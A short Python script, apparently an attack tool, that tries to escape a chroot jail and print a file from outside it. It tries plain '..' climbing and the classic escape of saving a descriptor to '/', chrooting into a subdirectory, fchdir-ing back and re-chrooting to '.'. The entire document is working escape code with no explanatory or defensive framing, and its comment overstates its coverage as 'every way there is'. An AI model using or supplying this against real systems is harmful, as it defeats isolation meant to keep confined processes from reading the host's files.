# Walks out of a root that is only a chroot, in every way there is, and prints what lies outside.
import os, sys
path = sys.argv[1].lstrip('/')
def look():
    try:
        print(open(path).read())
    except OSError:
        pass
def climb():
    for _ in range(64):
        os.chdir('..')
    look()
saved = os.open('/', os.O_RDONLY)
os.chdir('/')
climb()
os.makedirs('/tmp/cage', exist_ok=True)
try:
    os.chroot('/tmp/cage')
    os.fchdir(saved)
    climb()
    os.chroot('.')
    look()
except OSError:
    pass
